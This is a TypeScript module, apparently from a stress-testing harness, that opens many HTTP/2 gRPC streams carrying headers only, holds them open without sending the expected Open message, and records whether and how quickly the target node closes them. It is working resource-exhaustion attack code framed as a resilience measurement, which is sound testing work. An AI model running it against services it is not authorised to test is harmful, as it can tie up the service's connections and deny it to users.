// Streams that never send Open: `connections` connections × `streams` streams each, headers
// only, held open for up to `holdMs`. Records how many the node closed, and how soon.
import { connectH2, GRPC_HEADERS } from "./h2-connect.js";
import { type AttackerTls, type AttackOutcome, Tally } from "./outcome.js";

export interface SilentStreamsSpec {
  readonly target: string;
  readonly connections: number;
  readonly streams: number;
  readonly holdMs: number;
  readonly tls?: AttackerTls;
}

export async function silentStreams(spec: SilentStreamsSpec): Promise<AttackOutcome> {
  const sent = new Tally();
  const answers = new Tally();
  const started = performance.now();
  const closedAfterMs: number[] = [];
  const one = () =>
    new Promise<void>((resolve) => {
      const session = connectH2(spec.target, spec.tls);
      sent.add("connections");
      let open = 0;
      let finished = false;
      const streams: import("node:http2").ClientHttp2Stream[] = [];
      const finish = () => {
        if (finished) return;
        finished = true;
        for (const st of streams) {
          if (st.closed) continue;
          // Streams beyond the node's SETTINGS_MAX_CONCURRENT_STREAMS never left this client.
          answers.add(
            st.pending ? "held back by the node's stream limit" : "still open at the end",
          );
        }
        clearTimeout(timer);
        session.destroy();
        resolve();
      };
      const timer = setTimeout(finish, spec.holdMs);
      session.on("error", (e: NodeJS.ErrnoException) => {
        answers.add(`connection error:${e.code ?? e.message}`);
        finish();
      });
      session.on("goaway", () => answers.add("goaway"));
      session.on("close", finish);
      for (let i = 0; i < spec.streams; i++) {
        const stream = session.request(GRPC_HEADERS, { endStream: false });
        streams.push(stream);
        sent.add("streams");
        open++;
        stream.on("error", () => undefined);
        stream.on("response", (headers) => {
          const status = headers["grpc-status"];
          if (status !== undefined) answers.add(`refused at once: grpc-status ${status}`);
        });
        stream.on("close", () => {
          open--;
          if (finished) return;
          answers.add("stream closed by the node");
          closedAfterMs.push(performance.now() - started);
          if (open === 0) finish();
        });
      }
    });
  await Promise.all(Array.from({ length: spec.connections }, one));
  closedAfterMs.sort((a, b) => a - b);
  const median = closedAfterMs[Math.floor(closedAfterMs.length / 2)];
  return {
    sent: sent.counts,
    answers: answers.counts,
    note:
      `${spec.connections} × ${spec.streams} streams without Open, held up to ${spec.holdMs / 1000} s` +
      (median === undefined
        ? ": the node closed none"
        : `: median close after ${(median / 1000).toFixed(1)} s`),
  };
}
